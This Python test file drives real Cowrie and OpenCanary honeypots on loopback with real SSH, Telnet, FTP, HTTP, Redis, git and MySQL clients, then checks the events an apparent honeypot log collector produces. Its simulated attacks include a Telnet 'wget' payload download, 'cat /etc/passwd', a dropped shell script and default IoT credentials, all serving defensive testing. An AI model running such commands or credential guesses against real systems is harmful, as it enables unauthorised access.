# SPDX-License-Identifier: MIT
"""The collector against the real Cowrie and OpenCanary, attacked with real clients on loopback (`nox -s oracles`).

Run by hand it renews the samples in `data/`: `python -m tests.decnet_sniff.collect.test_real_honeypots DIRECTORY`.
"""

from __future__ import annotations

import contextlib
import ftplib
import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.decnet_sniff.oracles.oracle_programs import environment
from tests.ports import free_port

from decnet_core.events.catalogue import CommandRun, FileCaptured, HttpRequest, LoginAttempt, ServiceRequest
from decnet_core.events.codec import decode
from decnet_core.events.envelope import Event
from decnet_core.spool.positions import START
from decnet_core.spool.reader import SpoolReader

COWRIE = "cowrie==3.1.4"
OPENCANARY = "opencanary==0.9.10"


def wait_for_port(port: int, process: subprocess.Popen[bytes], seconds: float = 120) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"the honeypot ended with {process.returncode}")
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
            return
        time.sleep(0.1)
    raise TimeoutError(f"nothing listens on port {port}")


@contextlib.contextmanager
def running(command: list[str], directory: Path, ports: list[int]) -> Iterator[None]:
    """Run a honeypot in `directory`; as root in a user namespace of its own, because Cowrie refuses to be root."""
    if os.getuid() == 0:
        command = ["unshare", "--user", *command]
    with (directory / "output.txt").open("wb") as output:
        process = subprocess.Popen(
            command, cwd=directory, stdout=output, stderr=subprocess.STDOUT,
            env={**os.environ, "HOME": str(directory)}, start_new_session=True,
        )  # fmt: skip
        try:
            for port in ports:
                wait_for_port(port, process)
            yield
        finally:
            os.killpg(process.pid, signal.SIGTERM)
            process.wait(100)


@contextlib.contextmanager
def cowrie(directory: Path) -> Iterator[tuple[int, int, Path]]:
    """Run Cowrie; gives its SSH port, its Telnet port and its JSON log."""
    place = environment(COWRIE)
    ssh, telnet = free_port(), free_port()
    for name in ("etc", "var/log/cowrie", "var/lib/cowrie/tty", "var/lib/cowrie/downloads"):
        (directory / name).mkdir(parents=True)
    (directory / "etc" / "cowrie.cfg").write_text(
        f"[honeypot]\nhostname = web01\n"
        f"[ssh]\nlisten_endpoints = tcp:{ssh}:interface=127.0.0.1\n"
        f"[telnet]\nenabled = true\nlisten_endpoints = tcp:{telnet}:interface=127.0.0.1\n"
    )
    command = [str(place / "bin" / "twistd"), "--nodaemon", "--pidfile=", "cowrie"]
    with running(command, directory, [ssh, telnet]):
        yield ssh, telnet, directory / "var" / "log" / "cowrie" / "cowrie.json"


@contextlib.contextmanager
def opencanary(directory: Path) -> Iterator[tuple[dict[str, int], Path]]:
    """Run OpenCanary; gives the port of each service and its log."""
    place = environment(OPENCANARY)
    ports = {name: free_port() for name in ("ftp", "http", "ssh", "telnet", "mysql", "redis", "httpproxy", "git")}
    log = directory / "opencanary.log"
    settings: dict[str, object] = {
        "device.node_id": "canary-7",
        "device.listen_addr": "127.0.0.1",
        "http.skin": "nasLogin",
        "http.log_unimplemented_method_requests": True,
        "httpproxy.skin": "squid",
        "ssh.version": "SSH-2.0-OpenSSH_9.2p1",
        "telnet.log_tcp_connection": True,
        "mysql.log_connection_made": True,
        "logger": {
            "class": "PyLogger",
            "kwargs": {"handlers": {"file": {"class": "logging.FileHandler", "filename": str(log)}}},
        },
    }
    for name, port in ports.items():
        settings |= {f"{name}.enabled": True, f"{name}.port": port}
    (directory / ".opencanary.conf").write_text(json.dumps(settings))
    command = [str(place / "bin" / "twistd"), "-n", "--pidfile=", "-y", str(place / "bin" / "opencanary.tac")]
    with running(command, directory, list(ports.values())):
        yield ports, log


def ssh(port: int, user: str, password: str, command: str, directory: Path) -> None:
    """Log in with the real OpenSSH client and run `command`; being refused is fine.

    OpenCanary 0.9.10 on Twisted 26 hangs up when a client's greeting and key exchange arrive in one read ("Cannot send
    KEXINIT while key exchange state is ..."), which is a matter of luck; then it is tried again.
    """
    asker = directory / "askpass"
    asker.write_text(f"#!/bin/sh\necho '{password}'\n")
    asker.chmod(0o700)
    for _ in range(20):
        done = subprocess.run(
            ["ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
             "-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-p", str(port),
             f"{user}@127.0.0.1", command],
            env={**os.environ, "SSH_ASKPASS": str(asker), "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": "none"},
            stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False,
        )  # fmt: skip
        if done.returncode != 255 or b"Permission denied" in done.stderr:
            return
    raise AssertionError(f"ssh could not reach the honeypot: {done.stderr!r}")


def converse(port: int, *turns: tuple[bytes, bytes]) -> None:
    """Connect, and for each turn wait for its first text, then send its second."""
    with socket.create_connection(("127.0.0.1", port), 20) as peer:
        peer.settimeout(100)
        for expected, answer in turns:
            heard = b""
            while expected not in heard:
                more = peer.recv(4096)
                if not more:
                    return
                heard += more
            peer.sendall(answer)
        with contextlib.suppress(OSError):
            peer.settimeout(2)
            while peer.recv(4096):
                pass


def attack_cowrie(ssh_port: int, telnet_port: int, directory: Path) -> None:
    """A failed login, a session with a dropped file, and a Telnet session."""
    ssh(ssh_port, "root", "root", "id", directory)  # Cowrie's default user database refuses root/root
    ssh(
        ssh_port, "root", "hunter2",
        "uname -a; echo '#!/bin/sh' > /tmp/x.sh; cat /etc/passwd; nosuchcommand --help; exit", directory,
    )  # fmt: skip
    converse(
        telnet_port,
        (b"login: ", b"root\r\n"),
        (b"assword: ", b"xc3511\r\n"),
        (b"# ", b"wget http://127.0.0.1:9/payload\r\n"),
        (b"# ", b"echo '\x1b[2J\xc3\xa9'\r\n"),
        (b"# ", b"exit\r\n"),
    )


def attack_opencanary(ports: dict[str, int], directory: Path) -> None:
    """One touch of every service that is on."""
    with contextlib.suppress(ftplib.Error, OSError, EOFError), ftplib.FTP() as ftp:
        ftp.connect("127.0.0.1", ports["ftp"], 20)
        ftp.login("anonymous", "mozilla@example.com")
    url = f"http://127.0.0.1:{ports['http']}/index.html"
    quietly = ["curl", "-s", "-m", "20", "-o", "/dev/null", "-A", "Mozilla/5.0 zgrab/0.x"]
    subprocess.run([*quietly, url], check=False)
    subprocess.run([*quietly, "-d", "username=admin&password=pass%00word", url], check=False)
    subprocess.run([*quietly, "-X", "DELETE", url], check=False)
    subprocess.run(
        [*quietly, "-x", f"http://bob:secret@127.0.0.1:{ports['httpproxy']}", "http://127.0.0.1/"], check=False
    )
    ssh(ports["ssh"], "pi", "raspberry", "id", directory)
    converse(ports["telnet"], (b"Username: ", b"root\r\n"), (b"Password: ", b"xc3511\r\n"))
    converse(ports["redis"], (b"", b"*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n"), (b"-", b"*1\r\n$4\r\nQUIT\r\n"))
    clone = b"git-upload-pack /secret.git\0host=127.0.0.1\0"
    converse(ports["git"], (b"", b"%04x" % (len(clone) + 4) + clone))
    login = b"\x85\xa6\xff\x01\0\0\0\x01\x21" + bytes(23) + b"root\0\x14" + bytes(range(20)) + b"mysql\0"
    converse(ports["mysql"], (b"mysql_native_password", len(login).to_bytes(3, "little") + b"\x01" + login))


def cowrie_log(directory: Path) -> Path:
    """Run and attack Cowrie; return the log that it wrote."""
    (directory / "cowrie").mkdir()
    with cowrie(directory / "cowrie") as (ssh_port, telnet_port, log):
        attack_cowrie(ssh_port, telnet_port, directory)
    return log


def opencanary_log(directory: Path) -> Path:
    """Run and attack OpenCanary; return the log that it wrote."""
    (directory / "opencanary").mkdir()
    with opencanary(directory / "opencanary") as (ports, log):
        attack_opencanary(ports, directory)
    return log


def collected(directory: Path, name: str, log: Path) -> list[Event]:
    """Let the real `decnet-collect` read `log`, stop it with SIGTERM, and return the events in its spool."""
    settings = directory / "decnet.toml"
    settings.write_text(
        f'[state]\ndir = "{directory / "state"}"\n'
        f'[[collect.source]]\nname = "{name}"\nformat = "{name}"\npath = "{log}"\n'
    )
    program = str(Path(sys.executable).with_name("decnet-collect"))
    environ = {**os.environ, "DECNET_SETTINGS": str(settings)}
    position = directory / "state" / "positions" / "collect.json"
    wanted = f'"offset":{log.stat().st_size},'
    with subprocess.Popen([program], env=environ, stderr=subprocess.DEVNULL) as process:
        try:
            deadline = time.monotonic() + 120
            while not (position.exists() and wanted in position.read_text()):
                assert process.poll() is None
                assert time.monotonic() < deadline
                time.sleep(0.05)
        finally:
            process.terminate()
    batch = SpoolReader(directory / "state" / "spool" / "collect", "check").read(START, 10**6, 10**9)
    return [decode(line) for line in batch.lines]


def nothing_was_set_aside(directory: Path) -> bool:
    return not list((directory / "state" / "quarantine").rglob("*.jsonl"))


@pytest.mark.oracle
@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs the OpenSSH client")
def test_what_is_done_to_a_real_cowrie_becomes_events(tmp_path: Path) -> None:
    events = collected(tmp_path, "cowrie", cowrie_log(tmp_path))
    assert nothing_was_set_aside(tmp_path)
    assert {event.src_ip for event in events} == {"127.0.0.1"}
    payloads = [event.payload for event in events]
    assert LoginAttempt("ssh", "root", success=False, password="root") in payloads
    assert LoginAttempt("ssh", "root", success=True, password="hunter2") in payloads
    assert LoginAttempt("telnet", "root", success=True, password="xc3511") in payloads
    assert CommandRun("telnet", "wget http://127.0.0.1:9/payload") in payloads
    (dropped,) = [payload for payload in payloads if isinstance(payload, FileCaptured)]
    assert (dropped.name, dropped.sha256) == ("/tmp/x.sh", hashlib.sha256(b"#!/bin/sh\n").hexdigest())
    (session,) = {event.session for event in events if isinstance(event.payload, FileCaptured)}
    kinds = [event.kind for event in events if event.session == session]
    assert kinds[0] == "connection.opened"
    assert kinds[-1] == "session.closed"


@pytest.mark.oracle
@pytest.mark.skipif(shutil.which("ssh") is None or shutil.which("curl") is None, reason="needs ssh and curl")
def test_what_is_done_to_a_real_opencanary_becomes_events(tmp_path: Path) -> None:
    events = collected(tmp_path, "opencanary", opencanary_log(tmp_path))
    assert nothing_was_set_aside(tmp_path)
    assert {(event.src_ip, event.decky) for event in events} == {("127.0.0.1", "canary-7")}
    payloads = [event.payload for event in events]
    for service, username, password in (
        ("ftp", "anonymous", "mozilla@example.com"),
        ("http", "admin", "pass\0word"),
        ("httpproxy", "bob", "secret"),
        ("ssh", "pi", "raspberry"),
        ("telnet", "root", "xc3511"),
    ):
        assert LoginAttempt(service, username, success=False, password=password) in payloads
    assert [p.method for p in payloads if isinstance(p, HttpRequest)] == ["GET", "POST", "DELETE"]
    assert ServiceRequest("redis", "KEYS", {"args": "*"}) in payloads
    assert ServiceRequest("git", "clone", {"host": "127.0.0.1", "repo": "secret.git"}) in payloads


def record(directory: Path) -> None:
    """Write a fresh sample of both logs into `directory`."""
    with tempfile.TemporaryDirectory() as work:
        shutil.copyfile(cowrie_log(Path(work)), directory / "cowrie.json")
        shutil.copyfile(opencanary_log(Path(work)), directory / "opencanary.json")


if __name__ == "__main__":
    record(Path(sys.argv[1]))
